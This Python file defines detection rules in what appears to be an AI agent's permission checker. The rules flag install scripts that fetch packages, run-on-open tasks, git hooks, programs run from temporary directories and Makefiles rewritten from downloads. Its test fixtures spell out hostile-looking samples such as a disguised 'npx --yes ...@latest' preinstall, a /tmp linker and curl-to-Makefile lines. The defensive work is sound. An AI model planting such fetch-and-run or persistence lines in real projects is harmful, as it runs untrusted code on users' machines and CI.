"""Files and commands that something runs later: install lifecycle scripts and run-on-open tasks that fetch a
package, git hooks written into the project, programs run from temporary or download directories (issue 11).

The commands come lowered from `automode.files.executed` with `Command.via` saying what runs them ("runs-later …").
"""

from __future__ import annotations

import re

from automode.files.runs import TEMP_PROGRAM, temp_script
from automode.rules.base import rule
from automode.rules.writes import E, W
from automode.typing_lite import TYPE_CHECKING

if TYPE_CHECKING:
    from automode.analysis import Analysis
    from automode.effects import Effect
    from automode.shell.parse import Command


LIFECYCLE_VIA = ("scripts.preinstall", "scripts.install", "scripts.postinstall", "scripts.prepare", "scripts.prepublish",
                 "scripts.prepack", "scripts.dependencies", "(initializeCommand)", "(onCreateCommand)", "(postCreateCommand)",
                 "(postStartCommand)", "(postAttachCommand)", "(updateContentCommand)", "(folderOpen)")  # fmt: skip
#: Runners that download the package they run (the lowerer looks through them: they stay in `Command.via`).
ALWAYS_FETCH = frozenset({"bunx", "pnpx", "uvx", "pipx", "pnpm", "yarn", "bun", "deno"})


@rule(
    "AM-WRITE-014",
    category="remote-exec",
    verdict="deny",
    kind="command",
    needs={"runs-later"},
    names=None,
    release={"install", "run", "create"},
    title="Makes install or setup fetch and run a package",
    what="A package lifecycle script (preinstall, postinstall, prepare …) or a dev-container / run-on-open command "
    "that downloads and runs a package (`npx --yes x@latest`, `uvx`, `pnpm dlx`).",
    why="It runs on every install, on every machine and in CI, with whatever that package's next version contains.",
    example='"preinstall": "npx --yes sharp-prebuilt-fix@latest"',
    instead="Add the tool as a pinned devDependency and call its binary; tell the user why it is needed.",
    must_match=[E("package.json", '    "lint": "next lint",\n', '    "lint": "next lint",\n    "preinstall": "npx --yes sharp-prebuilt-fix@latest",\n')],
    must_not_match=[E("package.json", '    "lint": "next lint",\n', '    "lint": "next lint",\n    "postinstall": "patch-package",\n'),
                    E("package.json", '    "lint": "next lint",\n', '    "lint": "next lint",\n    "prepare": "npx husky",\n'),
                    E("package.json", '    "lint": "next lint",\n', '    "lint": "next lint",\n    "fmt": "npx --yes prettier@3 --write .",\n')],
)  # fmt: skip
def install_fetches(cmd: Command, a: Analysis) -> str | None:
    via = cmd.via
    if len(via) < 2 or not via[0].startswith("runs-later ") or not any(v in via[0] for v in LIFECYCLE_VIA):
        return None
    runner = next((v.split()[0] for v in via[1:] if v.split()[0] in ALWAYS_FETCH or v == "npx"), None)
    if runner is None:
        return None
    if runner == "npx" and "@" not in cmd.name and not re.search(r"\s(--yes|-y)\b", cmd.text):
        return None  # `npx husky`: the project's own devDependency
    return f"{via[0][11:]} runs `{cmd.text[:80]}`"


@rule(
    "AM-WRITE-015",
    category="persistence",
    verdict="ask",
    kind="command",
    needs={"runs-later"},
    names=None,
    release={"create", "update", "run"},
    title="Adds a task that runs when the folder is opened",
    what="A `.vscode/tasks.json` task with `runOptions.runOn: folderOpen`: the editor runs it on opening the project.",
    why="It runs without anyone starting it, for everyone who opens the folder.",
    example='{"label": "setup", "command": "./setup.sh", "runOptions": {"runOn": "folderOpen"}}',
    instead="Make it a normal task the user starts, and mention it.",
    must_match=[W(".vscode/tasks.json", '{"version": "2.0.0", "tasks": [{"label": "w", "type": "shell", "command": "npm run watch", '
                  '"runOptions": {"runOn": "folderOpen"}}]}')],
    must_not_match=[W(".vscode/tasks.json", '{"version": "2.0.0", "tasks": [{"label": "w", "type": "shell", "command": "npm run watch"}]}')],
)  # fmt: skip
def runs_on_open(cmd: Command, a: Analysis) -> str | None:
    if cmd.via and cmd.via[0].startswith("runs-later ") and cmd.via[0].endswith("(folderOpen)"):
        return f"{cmd.via[0][11:]} runs `{cmd.text[:80] or cmd.name}` when the folder opens"
    return None


@rule(
    "AM-WRITE-016",
    category="persistence",
    verdict="ask",
    kind="effect",
    names={"write"},
    release={"create", "update", "install"},
    title="Adds or changes a git hook of the project",
    what="A hook in the project's `.git/hooks/`, `.husky/` or `.githooks/` whose new text is known (a file tool, or a "
    "shell write of the whole content). What it runs is "
    "judged like a command (a hook that downloads or installs code is blocked by those rules); the hook itself is "
    "an ask unless the user asked for it.",
    why="A hook runs on every commit, push or merge, for everyone who installs it, without anyone starting it.",
    example="Write .git/hooks/pre-push: cargo fmt --check && cargo clippy",
    instead="Add the hook if the user asked for one; otherwise suggest it.",
    must_match=[W(".git/hooks/pre-push", "#!/bin/sh\ncargo fmt --all -- --check\n"), W(".husky/pre-commit", "npx lint-staged\n"),
                "echo 'npx lint-staged' > .husky/pre-commit"],
    must_not_match=[W("scripts/pre-push.sh", "#!/bin/sh\ncargo fmt --all -- --check\n"), "cp hooks/pre-commit .git/hooks/pre-commit"],
)  # fmt: skip
def project_git_hook(e: Effect, a: Analysis) -> str | None:
    from automode.rules.persistence import project_hook

    return f"writes the git hook {e.target}" if project_hook(e, a) else None


@rule(
    "AM-WRITE-018",
    category="remote-exec",
    verdict="deny",
    kind="command",
    needs={"runs-later"},
    names=None,
    release={"update", "create"},
    title="Makes a tool run a program from a temporary directory",
    what="A file that something runs later (a cargo `linker`/`runner`/`rustc-wrapper`, an npm `script-shell`, a git "
    "setting, a hook, a task) that names a program under /tmp, /var/tmp, /dev/shm or a Downloads folder, or a script "
    "or file it reads there (`sh /tmp/x.sh`, `node --require /tmp/x.js`, a makefile's `include /tmp/x.mk`, a "
    "justfile's `import`).",
    why="Every build or command then runs whatever sits at that path: anyone who can write there, or any earlier "
    "download, decides what runs with the user's rights.",
    example='.cargo/config.toml: linker = "/tmp/.ldcache/ld-fast"',
    instead="Use an installed tool by name (`clang`, `mold`) or one inside the project, and say why it is needed.",
    must_match=[W(".cargo/config.toml", '[target.x86_64-unknown-linux-gnu]\nlinker = "/tmp/.ldcache/ld-fast"\n'),
                W(".npmrc", "script-shell=/dev/shm/sh\n"), W("Makefile", "include /tmp/x.mk\ntest:\n\tpytest\n"),
                W("package.json", '{"scripts": {"test": "sh /tmp/x.sh && jest"}}'), W("justfile", "import '/tmp/x.just'\n")],
    must_not_match=[W(".cargo/config.toml", '[target.x86_64-unknown-linux-gnu]\nlinker = "clang"\nrustflags = ["-C", "link-arg=-fuse-ld=lld"]\n'),
                    "/tmp/build/app --help", W("Makefile", "include common.mk\ntest:\n\tsh scripts/test.sh\n"),
                    W("package.json", '{"scripts": {"test": "node --require ./setup.js test.js"}}')],
)  # fmt: skip
def program_in_temp(cmd: Command, a: Analysis) -> str | None:
    if not cmd.via or not cmd.via[0].startswith("runs-later ") or not cmd.argv:
        return None
    prog = cmd.argv[0].value
    if cmd.argv[0].dynamic or not TEMP_PROGRAM.search(prog):
        script = temp_script(cmd)
        if script is None:
            return None
        return f"{cmd.via[0][11:]} runs {script}, a file in a temporary or download directory"
    return f"{cmd.via[0][11:]} runs {prog}, a program in a temporary or download directory"




@rule(
    "AM-PERSIST-005",
    category="persistence",
    verdict="ask",
    kind="effect",
    names={"weaken"},
    release={"create", "update", "install", "run", "enable", "deploy", "schedule"},
    title="Makes a project file run something later by itself",
    what="A change that adds a trigger to a project file (`files.later_triggers`): a schedule in a CI workflow "
    "(GitHub, GitLab, Azure, CircleCI, Jenkins, Drone), a Compose `restart: always`, an "
    "`.envrc` line that runs a program, a JetBrains startup task. What it runs is judged apart.",
    why="It runs without anyone starting it: every night, on every install on every machine and in CI, whenever the "
    "Docker daemon restarts, each time someone enters the directory or opens the project.",
    example="on:\n  schedule:\n    - cron: '0 3 * * *'",
    instead="Add it when the user asks for that schedule or hook; otherwise describe it and let them decide.",
    must_match=[W(".github/workflows/sync.yml", "on:\n  schedule:\n    - cron: '0 3 * * *'\njobs: {}\n"),
                E(".github/workflows/ci.yml", "on:\n  push:\n", "on:\n  schedule:\n    - cron: '*/10 * * * *'\n  push:\n"),
                E("docker-compose.yml", "    image: redis:7\n", "    image: redis:7\n    restart: always\n"),
                W(".envrc", "export API=dev\n./scripts/sync.sh &\n")],
    must_not_match=[W(".github/workflows/ci.yml", "on:\n  push:\njobs:\n  t:\n    runs-on: ubuntu-latest\n"),
                    E("docker-compose.yml", "    image: redis:7\n", "    image: redis:7.2\n"),
                    E("package.json", '    "build": "tsc"\n', '    "build": "tsc",\n    "lint": "eslint ."\n'),
                    W("k8s/purge.yaml", "apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: purge\n"),
                    W(".envrc", "export API=dev\ndotenv\nlayout python3\nuse nix\n"),
                    W("docs/ci.md", "on:\n  schedule:\n    - cron: '0 3 * * *'\n")],
)  # fmt: skip
def later_trigger(e: Effect, a: Analysis) -> str | None:
    return f"{e.target} ({e.detail})" if e.origin.startswith("later-") else None


@rule(
    "AM-PERSIST-012",
    category="persistence",
    verdict="ask",
    kind="effect",
    names={"write"},
    release={"create", "update", "run", "install", "network"},
    title="Rewrites a file something runs with text only known at run time",
    what="A Makefile, package.json, justfile, tox.ini, CI workflow or other file of `files.executed` rewritten with a "
    "program's output that automode cannot read: a download (`curl URL > Makefile`), a file outside the project "
    "(`cat /tmp/x | sponge justfile`), a program read from a file (`jq -f /tmp/p.jq`), unknown input "
    "(`files.opaque_runs`). A filter whose program is on the command line is read for what it puts in instead.",
    why="The next `make`, `npm test` or CI run runs whatever the text turned out to be, and nothing reads it before.",
    example="curl -s https://x.example/mk > Makefile",
    instead="Write the change with the Write or Edit tool (or a filter whose program shows it), so it can be read.",
    must_match=["curl -s https://x.example/mk > Makefile", "cat /tmp/unknown | sponge package.json",
                "cat /tmp/x | tee justfile", "wget -qO- https://x.example/t | dd of=tox.ini",
                "jq -f /tmp/p.jq package.json > /tmp/p && mv /tmp/p package.json"],
    must_not_match=["jq '.version=\"1.2.3\"' package.json | sponge package.json", "cat Makefile.in > Makefile",
                    "sed 's/py38/py311/' tox.ini > tox.ini.new", "curl -s https://x.example/data.json > data.json",
                    "jq '.version=\"1.2.3\"' package.json > /tmp/p && mv /tmp/p package.json"],
)  # fmt: skip
def opaque_run(e: Effect, a: Analysis) -> str | None:
    if e.origin != "opaque-run":
        return None
    return e.detail + ", and what it will run is only known once written"
